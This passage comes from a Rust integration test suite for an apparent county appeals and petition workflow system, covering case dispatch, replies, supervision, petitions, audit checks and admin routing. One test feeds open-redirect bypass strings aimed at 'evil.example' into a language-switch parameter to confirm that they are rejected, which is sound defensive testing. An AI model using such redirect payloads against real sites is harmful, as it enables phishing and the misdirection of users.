        .api(reqwest::Method::GET, &format!("/appeals/{no}"), &mine, None)
        .await;
    assert!(
        body["tracking_code"]
            .as_str()
            .is_some_and(|c| c.len() == 26),
        "{body}"
    );
    let theirs = app.token("admin").await;
    let (_, body) = app
        .api(
            reqwest::Method::GET,
            &format!("/appeals/{no}"),
            &theirs,
            None,
        )
        .await;
    assert!(body["tracking_code"].is_null(), "{body}");
}

#[tokio::test]
async fn english_is_a_click_away() {
    let app = app("lang").await;
    let r = app
        .client
        .get(format!("{}/lang/en?next=/submit", app.base))
        .send()
        .await
        .expect("get");
    assert_eq!(r.headers()["location"], "/submit");
    let cookie = r.headers()["set-cookie"]
        .to_str()
        .expect("ascii")
        .split(';')
        .next()
        .expect("c")
        .to_owned();
    let (_, en) = app.get("/submit", &cookie).await;
    assert!(en.contains("Submit appeal") && en.contains("lang=\"en\""));
    let r = app
        .client
        .get(format!("{}/submit", app.base))
        .header("accept-language", "en-US,en;q=0.9")
        .send()
        .await
        .expect("get");
    let zh = r.text().await.expect("body");
    assert!(zh.contains("提交诉求") && zh.contains("lang=\"zh-CN\""));
    // Only local paths are followed.
    for evil in ["//evil.example", "/%5Cevil.example", "/%09/evil.example"] {
        let r = app
            .client
            .get(format!("{}/lang/en?next={evil}", app.base))
            .send()
            .await
            .expect("get");
        assert_eq!(r.headers()["location"], "/", "{evil}");
    }
    // Absurd page numbers and letters are not errors.
    let admin = app.login("admin").await;
    for page in ["9223372036854775807", "abc", "-5"] {
        let (status, _) = app.get(&format!("/staff?page={page}"), &admin).await;
        assert_eq!(status, StatusCode::OK, "page={page}");
    }
}

#[tokio::test]
async fn a_work_order_goes_from_dispatch_to_close() {
    let app = app("workorder").await;
    let (no, code) = app.submit(&[]).await;
    let handler = app.login("zjj.handler").await;
    let (page, _, actions) = app.case_page(&handler, &no).await;
    assert_eq!(
        actions,
        ["sign_for", "return", "contact"],
        "only what the handler may do now (calling the appellant first, 先联系后办理)"
    );
    assert!(page.contains("签收期限"), "the sign-for clock is shown");
    // Another unit's handler cannot act, and is not even shown the case.
    let other = app.login("slj.handler").await;
    let r = app
        .post(
            &format!("/staff/appeals/{no}/act"),
            &other,
            &[("action", "sign_for"), ("version", "2")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);

    assert_eq!(
        app.act(&handler, &no, &[("action", "sign_for")]).await.0,
        StatusCode::SEE_OTHER
    );
    let (page, _, actions) = app.case_page(&handler, &no).await;
    assert!(page.contains("办理中") && page.contains("办结期限"));
    assert!(actions.contains(&"reply".to_owned()) && !actions.contains(&"sign_for".to_owned()));
    // A reply needs text.
    let (status, body) = app
        .act(&handler, &no, &[("action", "reply"), ("text", " ")])
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("请填写理由或内容"));
    let (status, _) = app
        .act(
            &handler,
            &no,
            &[
                ("action", "reply"),
                ("text", "已修复供热管道，室温恢复到20度"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    // The handler may not judge their own work; the call centre visits. They may still
    // call the appellant.
    let (_, _, actions) = app.case_page(&handler, &no).await;
    assert_eq!(actions, ["contact"]);
    let caller = app.login("callcenter1").await;
    let (status, _) = app
        .act(
            &caller,
            &no,
            &[
                ("action", "return_visit"),
                ("rating", "satisfied"),
                ("solved", "solved"),
                ("text", "满意"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (page, _, actions) = app.case_page(&caller, &no).await;
    assert!(page.contains("已办结") && actions.is_empty());
    // The appellant sees the reply and the close, not who did it.
    let (_, track) = app.get(&format!("/track/{code}"), "").await;
    assert!(track.contains("已修复供热管道") && track.contains("已办结"));
    assert!(!track.contains("zjj.handler的名字"));
    // Every step is in the audit chain, which still holds.
    let report = app.store.verify_audit().await.expect("verify");
    assert!(report.first_bad.is_none());
}

#[tokio::test]
async fn stale_pages_and_refused_actions_say_why() {
    let app = app("stale").await;
    let (no, _) = app.submit(&[]).await;
    let handler = app.login("zjj.handler").await;
    let (_, version, _) = app.case_page(&handler, &no).await;
    let sign = [("action", "sign_for"), ("version", version.as_str())];
    assert_eq!(
        app.post(&format!("/staff/appeals/{no}/act"), &handler, &sign)
            .await
            .status(),
        StatusCode::SEE_OTHER
    );
    // The same form posted again: the case moved on meanwhile.
    let r = app
        .post(&format!("/staff/appeals/{no}/act"), &handler, &sign)
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("data-test=\"action-error\""), "{body}");
    // A supervisor orders faster handling; the case shows on the supervision list.
    let sup = app.login("supervisor1").await;
    let (status, _) = app
        .act(
            &sup,
            &no,
            &[
                ("action", "supervise"),
                ("text", "请两日内答复"),
                ("days", "2"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let admin = app.login("admin").await;
    let (_, list) = app.get("/staff?view=all&list=supervision", &admin).await;
    assert!(list.contains(&no));
    // The case shows the order: who issued it, for which unit, its deadline.
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
    let order = between(&page, "data-test=\"supervision\"", "</section>");
    assert!(
        order.contains("supervisor1的名字（县委群众工作部（12345热线））")
            && order.contains("请两日内答复"),
        "{order}"
    );
    let (_, list) = app.get("/staff?view=all&list=overdue", &admin).await;
    assert!(!list.contains(&no), "not overdue yet");
    // Nonsense actions are a clear 400.
    let r = app
        .post(
            &format!("/staff/appeals/{no}/act"),
            &admin,
            &[("action", "fly"), ("version", "1")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_petition_is_accepted_extended_answered_and_reviewed() {
    let app = app("petition").await;
    let ct = app.login("callcenter1").await;
    let petition = [
        ("channel", "visit"),
        ("kind", "petition"),
        ("category", "tudi"),
        ("township", T2),
        ("village", V21),
        ("text", "征地补偿款至今未发放"),
        ("name", "王五"),
        ("phone", "13700137000"),
    ];
    let r = app.post("/staff/intake", &ct, &petition).await;
    let no = r.headers()["location"]
        .to_str()
        .expect("ascii")
        .trim_start_matches("/staff/appeals/")
        .trim_end_matches("?registered=1")
        .to_owned();
    let handler = app.login("zrzyj.handler").await;
    let (page, _, actions) = app.case_page(&handler, &no).await;
    assert!(page.contains("信访事项") && page.contains("受理告知期限"));
    assert_eq!(
        actions,
        ["accept", "decline", "transfer", "pause", "contact"]
    );
    assert_eq!(
        app.act(&handler, &no, &[("action", "accept")]).await.0,
        StatusCode::SEE_OTHER
    );
    // Only the unit head extends, once.
    let (_, _, actions) = app.case_page(&handler, &no).await;
    assert!(!actions.contains(&"extend".to_owned()));
    let head = app.login("zrzyj.head").await;
    let ext = [
        ("action", "extend"),
        ("days", "30"),
        ("text", "需要重新测绘"),
    ];
    assert_eq!(app.act(&head, &no, &ext).await.0, StatusCode::SEE_OTHER);
    let (status, body) = app.act(&head, &no, &ext).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("延期只能申请一次"));
    let (status, _) = app
        .act(
            &handler,
            &no,
            &[("action", "reply"), ("text", "补偿款已拨付到村")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        app.act(&ct, &no, &[("action", "request_review")]).await.0,
        StatusCode::SEE_OTHER
    );
    let leader = app.login("leader1").await;
    let (page, _, actions) = app.case_page(&leader, &no).await;
    assert!(page.contains("复查中") && actions.contains(&"issue_review".to_owned()));
    let (status, _) = app
        .act(
            &leader,
            &no,
            &[("action", "issue_review"), ("text", "维持原答复")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (page, _, _) = app.case_page(&leader, &no).await;
    assert!(page.contains("已复查") && page.contains("需要重新测绘"));
    // Re-review ends the matter; the same appellant's new appeal on it is flagged.
    assert_eq!(
        app.act(&ct, &no, &[("action", "request_review")]).await.0,
        StatusCode::SEE_OTHER
    );
    let (status, _) = app
        .act(
            &leader,
            &no,
            &[("action", "issue_review"), ("text", "复核维持")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (page, _, actions) = app.case_page(&leader, &no).await;
    assert!(page.contains("已复核（终结）") && actions.is_empty());
    let again = app.post("/staff/intake", &ct, &petition).await;
    let again_no = again.headers()["location"]
        .to_str()
        .expect("ascii")
        .trim_start_matches("/staff/appeals/")
        .trim_end_matches("?registered=1")
        .to_owned();
    let (page, _, _) = app.case_page(&handler, &again_no).await;
    assert!(page.contains("data-test=\"not-again\""), "flagged");
    assert!(
        page.contains(&format!("href=\"/staff/appeals/{no}\"")),
        "with a link to the earlier case"
    );
    let (page, _, _) = app.case_page(&handler, &no).await;
    assert!(
        !page.contains("data-test=\"not-again\""),
        "the earlier case itself is not flagged"
    );
}

#[tokio::test]
async fn every_other_action_works_over_http() {
    let app = app("actions").await;
    let handler = app.login("zjj.handler").await;
    let dispatcher = app.login("dispatcher1").await;
    let leader = app.login("leader1").await;
    let ok = StatusCode::SEE_OTHER;

    // Return → rule: the unit must handle it and cannot return it again.
    let (no, _) = app.submit(&[]).await;
    let ret = [
        ("action", "return"),
        ("reason", "unclear_ownership"),
        ("text", "供热设施产权不清"),
    ];
    assert_eq!(app.act(&handler, &no, &ret).await.0, ok);
    let (page, _, actions) = app.case_page(&dispatcher, &no).await;
    assert!(actions.contains(&"rule".to_owned()) && actions.contains(&"dispatch".to_owned()));
    // The timeline says the return's reason from the list, who returned it for which
    // unit, and where the order was sent.
    assert!(
        page.contains("权属不清：供热设施产权不清"),
        "the chosen reason"
    );
    assert!(page.contains("zjj.handler的名字（县住房和城乡建设局）"));
    assert!(
        page.contains("系统 派至 县住房和城乡建设局"),
        "dispatched at registration"
    );
    assert_eq!(app.act(&dispatcher, &no, &[("action", "rule")]).await.0, ok);
    let (_, _, actions) = app.case_page(&handler, &no).await;
    assert_eq!(
        actions,
        ["sign_for", "contact"],
        "no second return after a ruling"
    );

    // Return → dispatch to another unit, which then sees it.
    let (no2, _) = app.submit(&[("phone", "13900000001")]).await;
    assert_eq!(app.act(&handler, &no2, &ret).await.0, ok);
    let lead = app.unit_id("slj").await;
    // A unit that does not exist is refused with a reason, and nothing is recorded.
    let (status, body) = app
        .act(
            &dispatcher,
            &no2,
            &[
                ("action", "dispatch"),
                ("lead", "99999"),
                ("urgency", "normal"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("不存在编号为 99999 的单位"), "{body}");
    let (page, _, _) = app.case_page(&dispatcher, &no2).await;
    assert!(page.contains("已退单"));
    let dispatch = [
        ("action", "dispatch"),
        ("lead", lead.as_str()),
        ("urgency", "urgent"),
    ];
    assert_eq!(app.act(&dispatcher, &no2, &dispatch).await.0, ok);
    let water = app.login("slj.handler").await;
    let (_, _, actions) = app.case_page(&water, &no2).await;
    assert!(actions.contains(&"sign_for".to_owned()));

    // Pause and resume; a leader takes charge; merge a duplicate into it.
    assert_eq!(
        app.act(&handler, &no, &[("action", "sign_for")]).await.0,
        ok
    );
    assert_eq!(
        app.act(
            &handler,
            &no,
            &[("action", "pause"), ("text", "等待群众补充材料")]
        )
        .await
        .0,
        ok
    );
    let (page, _, actions) = app.case_page(&handler, &no).await;
    assert!(page.contains("计时已暂停") && actions.contains(&"resume".to_owned()));
    assert_eq!(app.act(&handler, &no, &[("action", "resume")]).await.0, ok);
    assert_eq!(
        app.act(&leader, &no, &[("action", "assign_leader")])
            .await
            .0,
        ok
    );
    let (page, _, _) = app.case_page(&leader, &no).await;
    assert!(page.contains("领导包案"));
    let admin = app.login("admin").await;
    let (_, list) = app.get("/staff?view=all&list=flagged", &admin).await;
    assert!(
        list.contains(&no),
        "a case with a leader in charge is on the hard-case list"
    );
    let (dup, _) = app.submit(&[("phone", "13900000002")]).await;
    let merge = [("action", "merge"), ("into", no.as_str())];
    assert_eq!(app.act(&dispatcher, &dup, &merge).await.0, ok);
    let (page, _, _) = app.case_page(&admin, &dup).await;
    assert!(page.contains("已合并"));

    // Close and reopen: the satisfied visit closes; a dispatcher reopens.
    assert_eq!(
        app.act(&handler, &no, &[("action", "reply"), ("text", "已维修")])
            .await
            .0,
        ok
    );
    let caller = app.login("callcenter1").await;
    let visit = [
        ("action", "return_visit"),
        ("rating", "satisfied"),
        ("solved", "solved"),
        ("text", ""),
    ];
    assert_eq!(app.act(&caller, &no, &visit).await.0, ok);
    assert_eq!(
        app.act(
            &dispatcher,
            &no,
            &[("action", "reopen"), ("text", "问题复发")]
        )
        .await
        .0,
        ok
    );
    let (page, _, _) = app.case_page(&handler, &no).await;
    assert!(page.contains("办理中"));

    // Petitions may be declined or transferred; litigation matters are advised.
    let ct = app.login("callcenter1").await;
    let intake = |category: &'static str, phone: &'static str| {
        [
            ("channel", "letter"),
            ("kind", "petition"),
            ("category", category),
            ("township", T2),
            ("village", V21),
            ("text", "请求解决"),
            ("name", "赵六"),
            ("phone", phone),
        ]
    };
    let register = |form: [(&'static str, &'static str); 8]| {
        let app = &app;
        let ct = ct.clone();
        async move {
            let r = app.post("/staff/intake", &ct, &form).await;
            r.headers()["location"]
                .to_str()
                .expect("ascii")
                .trim_start_matches("/staff/appeals/")
                .trim_end_matches("?registered=1")
                .to_owned()
        }
    };
    let land = app.login("zrzyj.handler").await;
    let declined = register(intake("tudi", "13500000001")).await;
    let decline = [
        ("action", "decline"),
        ("text", "已经法院判决，请依法申请再审"),
    ];
    assert_eq!(app.act(&land, &declined, &decline).await.0, ok);
    let transferred = register(intake("tudi", "13500000002")).await;
    assert_eq!(
        app.act(
            &land,
            &transferred,
            &[("action", "transfer"), ("text", "市自然资源局")]
        )
        .await
        .0,
        ok
    );
    let (page, _, _) = app.case_page(&admin, &transferred).await;
    assert!(page.contains("已转送"));
    let legal = register(intake("shefa", "13500000003")).await;
    let (page, _, actions) = app.case_page(&admin, &legal).await;
    assert!(page.contains("涉法涉诉") && !actions.contains(&"accept".to_owned()));
    let advise = [
        ("action", "advise_legal"),
        ("channel", "arbitration"),
        ("text", "请向劳动人事争议仲裁委员会申请仲裁"),
    ];
    assert_eq!(app.act(&dispatcher, &legal, &advise).await.0, ok);
    let (page, _, _) = app.case_page(&admin, &legal).await;
    assert!(page.contains("已导入法律途径") && page.contains("劳动人事争议仲裁委员会"));
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("verify")
            .first_bad
            .is_none()
    );
}

#[tokio::test]
async fn a_reused_form_key_never_hands_out_another_persons_receipt() {
    let app = app("reuse").await;
    let key = ("submission_key", "0123456789abcdef0123456789abcdef");
    let (no, code) = app.submit(&[key]).await;
    // The same content again (a double click): the same receipt.
    assert_eq!(app.submit(&[key]).await, (no.clone(), code.clone()));
    // Other content under the same key: refused with 409, nothing stored, what was
    // typed kept, and a fresh key so that sending it again registers it.
    for other in [
        vec![key, ("name", "李四")],
        vec![key, ("text", "另一件事：路灯坏了")],
    ] {
        let r = app.post("/submit", "", &portal_form(&other)).await;
        assert_eq!(r.status(), StatusCode::CONFLICT);
        let body = r.text().await.expect("body");
        assert!(body.contains("data-test=\"error-submission-key\""));
        assert!(body.contains("此表单已提交过另一份不同的诉求"));
        assert!(
            !body.contains(&code) && !body.contains(&no),
            "no receipt of another appeal"
        );
        assert!(
            !body.contains(&format!("value=\"{}\"", key.1)),
            "a fresh key"
        );
        let typed = other[1].1;
        assert!(body.contains(typed), "what was typed is kept");
    }
    assert_eq!(app.store.counts().await.expect("counts").appeals, 1);
    // A malformed key is refused the same way (422), not silently stored.
    for bad in ["k-1", "有中文的键值有中文的键值", &"x".repeat(65)] {
        let r = app
            .post(
                "/submit",
                "",
                &[
                    ("category", "gongre"),
                    ("township", T1),
                    ("village", V11),
                    ("text", "路灯坏了"),
                    ("anonymous", "on"),
                    ("submission_key", bad),
                ],
            )
            .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
    }
    assert_eq!(app.store.counts().await.expect("counts").appeals, 1);
}

#[tokio::test]
async fn numbers_out_of_range_are_refused_at_once() {
    let app = app("ranges").await;
    let (no, _) = app.submit(&[]).await;
    let sup = app.login("supervisor1").await;
    for (days, status, message) in [
        (
            "4294967295",
            StatusCode::UNPROCESSABLE_ENTITY,
            "督办期限天数应在 1 到 30 之间",
        ),
        (
            "100000000",
            StatusCode::UNPROCESSABLE_ENTITY,
            "督办期限天数应在 1 到 30 之间",
        ),
        (
            "0",
            StatusCode::UNPROCESSABLE_ENTITY,
            "督办期限天数应在 1 到 30 之间",
        ),
        (
            "99999999999999",
            StatusCode::UNPROCESSABLE_ENTITY,
            "督办期限天数应在 1 到 30 之间",
        ),
        ("-3", StatusCode::UNPROCESSABLE_ENTITY, "天数应为正整数"),
        ("五", StatusCode::UNPROCESSABLE_ENTITY, "天数应为正整数"),
    ] {
        let (got, body) = app
            .act(
                &sup,
                &no,
                &[("action", "supervise"), ("text", "督办"), ("days", days)],
            )
            .await;
        assert_eq!(got, status, "{days}");
        assert!(body.contains(message), "{days}: {message}");
    }
    // Nothing was recorded, and the case page and health check still answer.
    let (page, _, _) = app.case_page(&sup, &no).await;
    assert!(!page.contains("督办期限"));
    assert_eq!(app.get("/healthz", "").await.0, StatusCode::OK);
    // In range works.
    let (got, _) = app
        .act(
            &sup,
            &no,
            &[("action", "supervise"), ("text", "督办"), ("days", "30")],
        )
        .await;
    assert_eq!(got, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn internal_notes_never_reach_the_public() {
    let app = app("notes").await;
    let handler = app.login("zjj.handler").await;
    let dispatcher = app.login("dispatcher1").await;
    let caller = app.login("callcenter1").await;
    let sup = app.login("supervisor1").await;
    let ok = StatusCode::SEE_OTHER;
    let (no, code) = app.submit(&[]).await;
    let zjj = app.unit_id("zjj").await;
    // Every command that carries a staff-only note, each with a marker.
    let steps: Vec<(&String, Fields<'_>)> = vec![
        (
            &handler,
            vec![
                ("action", "return"),
                ("reason", "other"),
                ("text", "内部甲退单说明"),
            ],
        ),
        (
            &dispatcher,
            vec![
                ("action", "dispatch"),
                ("lead", &zjj),
                ("urgency", "normal"),
            ],
        ),
        (&handler, vec![("action", "sign_for")]),
        (
            &handler,
            vec![("action", "pause"), ("text", "内部乙暂停原因")],
        ),
        (&handler, vec![("action", "resume")]),
        (
            &sup,
            vec![
                ("action", "supervise"),
                ("text", "内部丙督办要求"),
                ("days", "3"),
            ],
        ),
        (&handler, vec![("action", "reply"), ("text", "公开答复一")]),
        (
            &caller,
            vec![
                ("action", "return_visit"),
                ("rating", "unsatisfied"),
                ("solved", "unsolved"),
                ("text", "内部丁回访记录"),
            ],
        ),
        (&handler, vec![("action", "reply"), ("text", "公开答复二")]),
        (
            &caller,
            vec![
                ("action", "return_visit"),
                ("rating", "satisfied"),
                ("solved", "solved"),
                ("text", "内部戊回访记录"),
            ],
        ),
        (
            &dispatcher,
            vec![("action", "reopen"), ("text", "内部己重办原因")],
        ),
    ];
    for (who, fields) in &steps {
        let (status, body) = app.act(who, &no, fields).await;
        assert_eq!(status, ok, "{fields:?}: {body}");
    }
    let markers = ["内部甲", "内部乙", "内部丙", "内部丁", "内部戊", "内部己"];
    // Staff see every note (so the check below is not vacuous)...
    let (staff_page, _, _) = app.case_page(&handler, &no).await;
    for m in markers {
        assert!(staff_page.contains(m), "staff see {m}");
    }
    // ...the public sees the replies and none of the notes, names or phone.
    for path in [format!("/track/{code}"), format!("/receipt/{code}")] {
        for lang in ["", "?lang=en"] {
            let (status, page) = app.get(&format!("{path}{lang}"), "").await;
            assert_eq!(status, StatusCode::OK);
            for m in markers {
                assert!(!page.contains(m), "{path}{lang} leaks {m}");
            }
            assert!(!page.contains("的名字") && !page.contains("13800138000"));
        }
    }
    let (_, track) = app.get(&format!("/track/{code}"), "").await;
    assert!(track.contains("公开答复一") && track.contains("公开答复二"));
}

#[tokio::test]
async fn outsider_findings_stay_fixed() {
    let app = app("probe").await;
    let handler = app.login("zjj.handler").await;
    let dispatcher = app.login("dispatcher1").await;
    let caller = app.login("callcenter1").await;
    let sup = app.login("supervisor1").await;
    let ok = StatusCode::SEE_OTHER;
    let (a, code_a) = app.submit(&[]).await;
    let (b, _) = app.submit(&[("phone", "13900000011")]).await;
    let (c, _) = app.submit(&[("phone", "13900000012")]).await;

    // Merging: only into an open case, so no cycles and no live complaint buried in a
    // closed one.
    fn merge(into: &str) -> Vec<(&'static str, &str)> {
        vec![("action", "merge"), ("into", into)]
    }
    assert_eq!(app.act(&dispatcher, &b, &merge(&a)).await.0, ok);
    let (status, body) = app.act(&dispatcher, &a, &merge(&b)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("只能合并到仍在办理的诉求"), "{body}");
    let (status, _) = app.act(&dispatcher, &c, &merge(&b)).await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "not into a merged case"
    );

    // The public deadline is the stage's, not an internal supervision order's.
    let (_, before) = app.get(&format!("/track/{code_a}"), "").await;
    let due = |page: &str| between(page, "data-test=\"due-at\">", "<");
    let (status, _) = app
        .act(
            &sup,
            &a,
            &[("action", "supervise"), ("text", "内部督办"), ("days", "1")],
        )
        .await;
    assert_eq!(status, ok);
    let (_, after) = app.get(&format!("/track/{code_a}"), "").await;
    assert_eq!(due(&before), due(&after));

    // A return reads as "being assigned" to the public.
    assert_eq!(
        app.act(
            &handler,
            &c,
            &[("action", "return"), ("reason", "other"), ("text", "x")]
        )
        .await
        .0,
        ok
    );
    let (_, _, actions) = app.case_page(&dispatcher, &c).await;
    assert!(actions.contains(&"dispatch".to_owned()));

    // Strict values: an unknown urgency or a missing verdict is said on the page.
    let zjj = app.unit_id("zjj").await;
    let (status, body) = app
        .act(
            &dispatcher,
            &c,
            &[("action", "dispatch"), ("lead", &zjj), ("urgency", "super")],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("表单内容不完整或有误"));
    assert_eq!(app.act(&handler, &a, &[("action", "sign_for")]).await.0, ok);
    assert_eq!(
        app.act(&handler, &a, &[("action", "reply"), ("text", "已处理")])
            .await
            .0,
        ok
    );
    let (status, body) = app
        .act(
            &caller,
            &a,
            &[("action", "return_visit"), ("text", "电话回访")],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("请选择群众满意度"));
    // The rating alone is not enough: whether it was solved is asked apart.
    let (status, body) = app
        .act(
            &caller,
            &a,
            &[
                ("action", "return_visit"),
                ("rating", "basic"),
                ("text", "电话回访"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("请选择问题解决情况"));

    // Texts: control characters removed, and a length limit.
    let long = "长".repeat(5001);
    let (status, body) = app
        .act(
            &caller,
            &a,
            &[
                ("action", "return_visit"),
                ("rating", "satisfied"),
                ("solved", "solved"),
                ("text", &long),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("内容过长"));

    // Bodies that cannot be read get the bilingual page, not plain English text.
    let r = app
        .post(
            &format!("/staff/appeals/{a}/act"),
            &caller,
            &[("action", "close"), ("version", "1"), ("version", "2")],
        )
        .await;
    assert!(r.status().is_client_error());
    let body = r.text().await.expect("body");
    assert!(body.contains("提交的内容无法识别"), "{body}");
    let (status, body) = app.get("/staff?page=1&page=2", &caller).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("提交的内容无法识别"), "{body}");
    let huge = "x".repeat(3 * 1024 * 1024);
    let r = app.post("/submit", "", &[("text", huge.as_str())]).await;
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(r.text().await.expect("body").contains("提交的内容太大"));
    // A form without its one-time key is refused, not stored twice.
    let before = app.store.counts().await.expect("counts").appeals;
    let form = portal_form(&[("submission_key", "")]);
    assert_eq!(
        app.post("/submit", "", &form).await.status(),
        StatusCode::UNPROCESSABLE_ENTITY
    );
    assert_eq!(app.store.counts().await.expect("counts").appeals, before);
}

impl App {
    /// Uploads a region file to the admin console; returns the status and the page.
    async fn upload_regions(&self, cookie: &str, csv: &str, check: bool) -> (StatusCode, String) {
        self.upload("/staff/admin/regions", cookie, csv, check)
            .await
    }

    /// Uploads a file to an administration page, as its form does.
    async fn upload(
        &self,
        path: &str,
        cookie: &str,
        body: impl AsRef<[u8]>,
        check: bool,
    ) -> (StatusCode, String) {
        let mut form = reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(body.as_ref().to_vec()).file_name("upload.csv"),
        );
        if check {
            form = form.text("check", "1");
        }
        let r = self
            .client
            .post(format!("{}{path}", self.base))
            .header("cookie", cookie)
            .multipart(form)
            .send()
            .await
            .expect("upload");
        (r.status(), r.text().await.expect("body"))
    }
}

#[tokio::test]
async fn administrators_import_regions_and_set_routing_rules() {
    let app = app("admin").await;
    let handler = app.login("zjj.handler").await;
    assert_eq!(
        app.get("/staff/admin", &handler).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.get("/staff/admin/routing", &handler).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, _) = app.upload_regions(&handler, "code,name\n", false).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let admin = app.login("admin").await;
    let (status, page) = app.get("/staff", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("data-test=\"nav-admin\""));

    // Regions: a check writes nothing; the import adds a township with its government.
    let csv = "代码,名称\n370999003001,新村\n370999003000,新区街道\n";
    let (status, page) = app.upload_regions(&admin, csv, true).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.contains("检查通过") && page.contains("新增区划 2"),
        "{page}"
    );
    assert!(!page.contains("新区街道 <small"));
    let (status, page) = app.upload_regions(&admin, csv, false).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.contains("已导入") && page.contains("新建乡镇政府单位 1"),
        "{page}"
    );
    assert!(page.contains("新区街道 <small"));
    let (_, page) = app.upload_regions(&admin, csv, false).await;
    assert!(page.contains("新增区划 0"), "{page}");
    let (status, page) = app
        .upload_regions(&admin, "代码,名称\n370999009001,无上级村\n", false)
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("第 2 行"), "{page}");
    assert!(
        app.store
            .units()
            .await
            .expect("units")
            .iter()
            .any(|u| u.name == "新区街道办事处")
    );

    // Routing: heating in 柳林镇 goes to the water bureau with the housing bureau
    // helping; the preview says why; a new appeal follows the rule.
    let (slj, zjj) = (app.unit_id("slj").await, app.unit_id("zjj").await);
    let co = format!("co_{zjj}");
    let r = app
        .post(
            "/staff/admin/routing",
            &admin,
            &[
                ("category", "gongre"),
                ("region", T2),
                ("lead", &slj),
                (co.as_str(), "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app
        .get(
            &format!("/staff/admin/routing?category=gongre&region={V21}"),
            &admin,
        )
        .await;
    assert!(page.contains("data-test=\"rule-row\""));
    let lead = between(&page, "data-test=\"preview-lead\">", "<");
    assert_eq!(lead, "县水利局");
    assert!(page.contains("分流规则 #"), "{page}");
    let (no, _) = app
        .submit(&[("township", T2), ("village", V21), ("phone", "13900000021")])
        .await;
    let water = app.login("slj.handler").await;
    let (status, _) = app.get(&format!("/staff/appeals/{no}"), &water).await;
    assert_eq!(status, StatusCode::OK, "the rule's lead unit has it");
    // A rule naming a unit that does not exist is refused beside the field.
    let r = app
        .post(
            "/staff/admin/routing",
            &admin,
            &[("category", "gongre"), ("region", T2), ("lead", "99999")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // Removing the rule restores the category default.
    let rule = app.store.routing_rules().await.expect("rules")[0].id;
    let r = app
        .post(&format!("/staff/admin/routing/{rule}/remove"), &admin, &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app
        .get(
            &format!("/staff/admin/routing?category=gongre&region={V21}"),
            &admin,
        )
        .await;
    assert_eq!(
        between(&page, "data-test=\"preview-lead\">", "<"),
        "县住房和城乡建设局"
    );
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

#[tokio::test]
async fn administrators_shape_units_categories_regions_and_the_calendar() {
    let app = app("organisation").await;
    let handler = app.login("zjj.handler").await;
    for page in [
        "/staff/admin/units",
        "/staff/admin/categories",
        "/staff/admin/calendar",
    ] {
        assert_eq!(
            app.get(page, &handler).await.0,
            StatusCode::FORBIDDEN,
            "{page}"
        );
    }
    let r = app
        .post(
            "/staff/admin/regions/retire",
            &handler,
            &[("code", V21), ("action", "retire")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let admin = app.login("admin").await;

    // Units: a village committee under the township government, by region name.
    let unit = [
        ("key", "t02-v1"),
        ("name", "柳林镇东村村委会"),
        ("kind", "village_committee"),
        ("parent", "t02"),
        ("jurisdiction", V21),
        ("phone", "0539-7654321"),
    ];
    let r = app.post("/staff/admin/units", &admin, &unit).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get("/staff/admin/units", &admin).await;
    assert!(
        page.contains("柳林镇东村村委会") && page.contains("0539-7654321"),
        "{page}"
    );
    // The same key again is taken; a unit under its own child is a loop.
    let r = app.post("/staff/admin/units", &admin, &unit).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("已被占用"));
    let r = app
        .post(
            "/staff/admin/units/t02",
            &admin,
            &[
                ("name", "柳林镇人民政府"),
                ("kind", "township_government"),
                ("parent", "t02-v1"),
                ("jurisdiction", T2),
            ],
